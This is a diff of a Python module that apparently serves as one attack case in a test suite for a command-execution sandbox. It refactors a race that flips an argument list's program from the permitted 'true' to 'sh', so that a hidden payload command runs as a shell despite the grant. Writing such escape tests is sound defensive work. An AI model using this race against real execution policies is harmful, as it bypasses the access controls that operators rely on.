@@ -4,26 +4,15 @@ REACH = "run"
 GRANT = {"run": ["true"]}
 
 import subprocess
-import threading
-import time
 
 from . import payload
 
 
 def attack():
     arguments = ["true", "-c", payload.COMMAND]
-    ends = time.monotonic() + 0.7
 
-    def flip():
-        while time.monotonic() < ends:
-            arguments[0] = "true"
-            arguments[0] = "sh"
+    def turn():
+        arguments[0] = "true"
+        arguments[0] = "sh"
 
-    thread = threading.Thread(target=flip)
-    thread.start()
-    while time.monotonic() < ends:
-        try:
-            subprocess.call(arguments)
-        except OSError:
-            pass
-    thread.join()
+    payload.race(turn, lambda: subprocess.call(arguments))
